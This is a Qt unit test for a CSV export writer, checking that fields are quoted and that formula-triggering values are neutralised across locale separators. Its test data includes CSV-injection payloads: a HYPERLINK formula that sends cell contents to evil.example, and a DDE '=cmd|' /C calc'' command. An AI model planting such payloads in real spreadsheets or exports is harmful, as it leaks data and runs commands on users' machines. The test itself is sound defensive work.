// engine::Csv, the one CSV writer of the console's export and lockboxctl: every field quoted, a
// field that a spreadsheet would run as a formula neutralised, whichever list separator the
// spreadsheet's locale uses.

#include "engine/csv.h"
#include "support/csvreader.h"

#include <QTest>

using namespace Qt::StringLiterals;
using lockbox::engine::Csv;
using lockbox::test::readCsv;

class TestCsv final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void fields_data();
    void fields();
    void noCellStartsAFormula_data();
    void noCellStartsAFormula();
    void linesEndWithCrLfAndReadBack();
};

void TestCsv::fields_data()
{
    QTest::addColumn<QString>("value");
    QTest::addColumn<QString>("field");
    QTest::newRow("plain") << u"alice@contoso.com"_s << u"\"alice@contoso.com\""_s;
    QTest::newRow("empty") << QString() << u"\"\""_s;
    QTest::newRow("=") << u"=1+1"_s << u"\"'=1+1\""_s;
    QTest::newRow("+") << u"+SUM(A1)"_s << u"\"'+SUM(A1)\""_s;
    QTest::newRow("-") << u"-2+3"_s << u"\"'-2+3\""_s;
    QTest::newRow("@") << u"@SUM(A1)"_s << u"\"'@SUM(A1)\""_s;
    QTest::newRow("tab") << u"\t=1"_s << u"\"'\t=1\""_s;
    QTest::newRow("carriage return") << u"\r=1"_s << u"\"'\r=1\""_s;
    QTest::newRow("comma") << u"a,b"_s << u"\"a,b\""_s;
    QTest::newRow("semicolon") << u"x;=HYPERLINK(\"http://evil.example\")"_s
                               << u"\"x;=HYPERLINK(\"\"http://evil.example\"\")\""_s;
    QTest::newRow("quote") << u"say \"no\""_s << u"\"say \"\"no\"\"\""_s;
    QTest::newRow("line break") << u"one\ntwo"_s << u"\"one\ntwo\""_s;
    QTest::newRow("inner = is data") << u"a=b"_s << u"\"a=b\""_s;
    QTest::newRow("emoji") << u"ok \U0001F512"_s << u"\"ok \U0001F512\""_s;
}

void TestCsv::fields()
{
    QFETCH(QString, value);
    QFETCH(QString, field);
    QCOMPARE(Csv::field(value), field);
}

void TestCsv::noCellStartsAFormula_data()
{
    QTest::addColumn<QChar>("separator");
    QTest::newRow("comma (English)") << QChar(u',');
    QTest::newRow("semicolon (German, French)") << QChar(u';');
    QTest::newRow("tab") << QChar(u'\t');
}

// What a spreadsheet set to `separator` makes of each field: no cell may start a formula. (Unquoted,
// "x;=HYPERLINK(…)" is two cells to a spreadsheet whose list separator is ';'.)
void TestCsv::noCellStartsAFormula()
{
    QFETCH(QChar, separator);
    const QStringList hostile = {
        u"x;=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"_s,
        u"a,=1+1"_s,
        u"b\t=cmd|' /C calc'!A0"_s,
        u"\t@SUM(A1)"_s,
        u"\r-2+3"_s,
        u"c\n=1"_s,
        u"d\r\n+1"_s,
        u"\"e\";=1"_s,
        u"=1+1"_s,
    };
    for (const QString &value : hostile) {
        const QList<QStringList> rows = readCsv(Csv::line({value, u"next"_s}), separator);
        QVERIFY(!rows.isEmpty());
        QVERIFY2(!rows.first().isEmpty(), qPrintable(value));
        for (const QStringList &row : rows) {
            for (const QString &cell : row) {
                QVERIFY2(cell.isEmpty() || !QStringView(u"=+-@").contains(cell.front()),
                         qPrintable(u"a cell starts a formula: "_s + cell));
            }
        }
    }
    // Read with its own separator, the line gives back each value whole.
    if (separator == u',') {
        const QList<QStringList> rows = readCsv(Csv::line(hostile), separator);
        QCOMPARE(rows.size(), 1);
        QCOMPARE(rows.first().size(), hostile.size());
    }
}

void TestCsv::linesEndWithCrLfAndReadBack()
{
    const QStringList values = {u"1"_s, QString(), u"say \"no\", twice\r\nreally"_s, u"Zoë ✓ \U0001F512"_s};
    const QString line = Csv::line(values);
    QVERIFY(line.endsWith(u"\"\r\n"_s));
    const QList<QStringList> rows = readCsv(line + Csv::line({u"next"_s}));
    QCOMPARE(rows.size(), 2);
    QCOMPARE(rows.at(0), values);
    QCOMPARE(rows.at(1), QStringList {u"next"_s});
}

QTEST_GUILESS_MAIN(TestCsv)
#include "tst_csv.moc"
